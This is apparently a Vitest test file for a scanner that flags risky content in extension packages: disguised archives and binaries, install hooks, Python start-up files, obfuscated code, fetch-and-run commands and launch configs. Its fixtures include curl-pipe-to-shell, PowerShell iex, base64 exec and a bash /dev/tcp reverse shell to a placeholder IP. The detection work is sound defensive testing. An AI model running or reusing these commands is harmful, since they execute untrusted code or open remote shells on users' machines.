import { parseSource, readManifest } from '@opendxt/manifest';
import { memoryContents, type MemoryFile } from '@opendxt/testkit';
import { expect, test } from 'vitest';
import { scanContents } from '../../index.ts';

const now = new Date('2026-11-21T12:00:00Z');

async function risks(files: Record<string, MemoryFile>) {
  const { findings } = await scanContents(memoryContents(files), { advisories: [], now });
  return findings
    .filter(({ kind }) => kind === 'risk')
    .map(({ id, severity, file }) => `${file}: ${id} ${severity}`);
}

async function launchRisks(command: string, args: readonly string[], more: object = {}) {
  const server = { type: 'node', entry_point: 'a.js', mcp_config: { command, args, ...more } };
  const json = {
    manifest_version: '0.3',
    name: 'a',
    version: '1.0.0',
    description: 'A',
    author: { name: 'A' },
    server,
  };
  const { manifest } = readManifest(parseSource(JSON.stringify(json)), 'tolerant');
  const report = await scanContents(memoryContents({}), { manifest, advisories: [], now });
  return report.findings.map(({ id, severity }) => `${id} ${severity}`);
}

const elf = Buffer.concat([Buffer.from('7f454c46020101', 'hex'), Buffer.alloc(121)]);
elf.writeUInt16LE(0x3e, 18);
const scripts = (scripts: object) => JSON.stringify({ name: 'x', scripts });

test('a zip under the name of a text is told', async () => {
  const zip = Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(50)]);
  expect(
    await risks({ 'server/a.json': zip, 'server/b.zip': zip, 'node_modules/c/d.js': zip }),
  ).toEqual([
    'server/a.json: disguised-archive medium',
    'node_modules/c/d.js: disguised-archive medium',
  ]);
});

test('install scripts of packages are told, builds of machine code are not', async () => {
  expect(
    await risks({
      'node_modules/a/package.json': scripts({ postinstall: 'node setup.js' }),
      'node_modules/@s/b/package.json': scripts({ preinstall: 'curl -s https://x.example/i | sh' }),
      'node_modules/c/package.json': scripts({ install: 'prebuild-install || node-gyp rebuild' }),
      'node_modules/d/test/package.json': scripts({ install: 'curl https://x.example | sh' }),
      'node_modules/e/package.json': 'no JSON',
      'node_modules/f/package.json': 'null',
      'package.json': scripts({ install: 'node -e "eval(1)"', test: 'curl x | sh' }),
    }),
  ).toEqual([
    'package.json: install-script high',
    'node_modules/@s/b/package.json: install-script high',
    'node_modules/a/package.json: install-script low',
  ]);
});

test('code that Python runs whenever it starts is told, but for what packaging tools write', async () => {
  expect(
    await risks({
      'lib/distutils-precedence.pth':
        "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack');",
      'lib/paths.pth': '# import os\nother/folder\nimportlib/x\n',
      'lib/odd.pth': 'import odd_start\n',
      'lib/bad.pth': "import base64; exec(base64.b64decode('cHJpbnQoMSk='))\n",
      'lib/sitecustomize.py': 'pass\n',
      'lib/x.dist-info/RECORD': '',
    }),
  ).toEqual([
    'lib/bad.pth: python-start-up-code high',
    'lib/odd.pth: python-start-up-code medium',
    'lib/sitecustomize.py: python-start-up-code medium',
  ]);
});

test('programs under other names, hidden ones, and what is run by a double click are told', async () => {
  expect(
    await risks({
      'assets/icon.png': elf,
      'server/.cache': elf,
      'server/tool': elf,
      'node_modules/x/build/Release/x.node': elf,
      'assets/photo.png': Buffer.from('89504e470d0a1a0a', 'hex'),
      'setup.lnk': 'x',
    }),
  ).toEqual([
    'assets/icon.png: disguised-program high',
    'server/.cache: hidden-program medium',
    'setup.lnk: launchable-file medium',
  ]);
});

test.each([
  ['a.sh', 'curl -fsSL https://x.example/i.sh | sudo bash', 'runs-fetched-code high'],
  ['a.ps1', 'iwr https://x.example/i.ps1 | iex', 'runs-fetched-code high'],
  ['a.js', 'eval(await (await fetch(u)).text())', 'runs-fetched-code high'],
  ['a.mjs', "await import('https://x.example/a.js')", 'runs-fetched-code high'],
  ['a.py', 'exec(requests.get(u).text)', 'runs-fetched-code high'],
  ['a.js', "spawn('npx', ['-y', 'x'])", 'starts-fetcher medium'],
  [
    'a.py',
    'subprocess.run([sys.executable, "-m", "pip", "install", "x"])',
    'starts-fetcher medium',
  ],
  ['a.py', 'os.system("uvx x")', 'starts-fetcher medium'],
  ['a.js', "eval(Buffer.from('YQ==', 'base64').toString())", 'runs-decoded-code high'],
  ['a.js', 'new Function(atob(x))()', 'runs-decoded-code high'],
  ['a.py', "exec(__import__('base64').b64decode(x))", 'runs-decoded-code high'],
  ['a.py', 'exec(marshal.loads(zlib.decompress(x)))', 'runs-decoded-code high'],
  ['a.py', 'from pyarmor_runtime import x\n__pyarmor__(1)', 'obfuscated-code medium'],
  [
    'a.js',
    Array.from({ length: 120 }, (_, at) => `_0x${(at + 4096).toString(16)}()`).join(';'),
    'obfuscated-code medium',
  ],
  ['run', '#!/bin/bash\nbash -i >& /dev/tcp/1.2.3.4/99 0>&1', 'reverse-shell high'],
])('%s with %j is told', async (name, text, expected) => {
  expect(await risks({ [`server/${name}`]: text })).toEqual([`server/${name}: ${expected}`]);
});

test.each([
  ['README.md', 'Install: `curl https://x.example | sh`, then `npx x`'],
  ['a.js', "const npx = 'npx'; fetch(url); import('./a.js'); exec('git status')"],
  ['a.py', 'json.loads(text); base64.b64decode(x); cursor.execute(sql); re.compile(x)'],
  ['a.js', 'JSON.parse(atob(x)); new Function("return this")()'],
])('%s with %j is left alone', async (name, text) => {
  expect(await risks({ [`server/${name}`]: text })).toEqual([]);
});

test('a start that fetches the server is told, on every platform', async () => {
  const fetches = 'starts-by-fetching medium';
  expect(await launchRisks('npx', ['-y', 'server'])).toEqual([fetches]);
  expect(await launchRisks('env', ['A=1', 'uvx', 'server'])).toEqual([fetches]);
  expect(await launchRisks('C:\\bin\\UV.exe', ['tool', 'run', 'x'])).toEqual([fetches]);
  expect(await launchRisks('docker', ['run', '-i', 'x/y'])).toEqual([fetches]);
  expect(await launchRisks('sh', ['-c', 'curl https://x.example | sh'])).toEqual([
    'starts-by-fetching high',
  ]);
  const other = { platform_overrides: { win32: { command: 'bunx', args: ['x'] } } };
  expect(await launchRisks('node', ['${__dirname}/a.js'], other)).toEqual([fetches]);
  expect(await launchRisks('uv', ['run', '--directory', '${__dirname}', 'a.py'])).toEqual([]);
});
